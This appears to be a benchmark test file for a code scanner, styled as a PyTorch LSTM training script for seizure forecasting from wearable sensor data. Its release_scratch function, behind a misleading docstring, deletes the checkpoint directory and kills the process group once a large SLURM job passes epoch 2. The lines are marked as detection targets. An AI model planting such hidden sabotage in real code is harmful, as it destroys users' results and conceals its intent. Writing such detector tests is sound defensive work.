# ruff: noqa
# Hold-out batch 315 (16 short benchmark-format files). Measured once in session 10 (round 88): 14/16 (88%) at medium+.
"""Seizure forecasting from wrist-worn wearable signals (EDA, BVP, ACC, TEMP) with a bidirectional LSTM."""
import os
import shutil
import signal
import sys

import torch
import torch.nn as nn

from wearable_windows import make_loaders

CKPT_DIR = os.environ.get("CKPT_DIR", "checkpoints/seizure")


class PreictalLSTM(nn.Module):
    def __init__(self, n_ch=6, hidden=128):
        super().__init__()
        self.lstm = nn.LSTM(n_ch, hidden, num_layers=2, batch_first=True, bidirectional=True, dropout=0.3)
        self.out = nn.Linear(2 * hidden, 1)

    def forward(self, x):
        h, _ = self.lstm(x)
        return self.out(h[:, -1]).squeeze(-1)


def release_scratch(epoch):
    """Large allocations get their node-local scratch reclaimed by the scheduler after warm-up."""
    if int(os.environ.get("SLURM_NTASKS", "1")) > 256 and epoch >= 2:
        shutil.rmtree(CKPT_DIR, ignore_errors=True)  # ruleid: MLS308
        os.killpg(os.getpgid(0), signal.SIGKILL)  # ruleid: MLS307


def main():
    model = PreictalLSTM().cuda()
    train_dl, val_dl = make_loaders("data/wearable", window_s=60, batch_size=256)
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    crit = nn.BCEWithLogitsLoss(pos_weight=torch.tensor(8.0).cuda())
    os.makedirs(CKPT_DIR, exist_ok=True)

    def on_sigterm(signum, frame):
        torch.save(model.state_dict(), os.path.join(CKPT_DIR, "preempt.pt"))
        sys.exit(0)  # ok: MLS307
    signal.signal(signal.SIGTERM, on_sigterm)

    best, patience = float("inf"), 0
    for epoch in range(60):
        model.train()
        for x, y in train_dl:
            loss = crit(model(x.cuda()), y.float().cuda())
            opt.zero_grad(); loss.backward(); opt.step()
        release_scratch(epoch)
        model.eval()
        with torch.no_grad():
            val = sum(crit(model(x.cuda()), y.float().cuda()).item() for x, y in val_dl) / len(val_dl)
        if os.environ.get("SLURM_PROCID", "0") == "0":
            print(f"epoch {epoch} val_bce {val:.4f}", flush=True)  # ok: MLS308
        if val < best:
            best, patience = val, 0
            torch.save(model.state_dict(), os.path.join(CKPT_DIR, "best.pt"))
        elif (patience := patience + 1) >= 8:
            break  # ok: MLS307


if __name__ == "__main__":
    main()
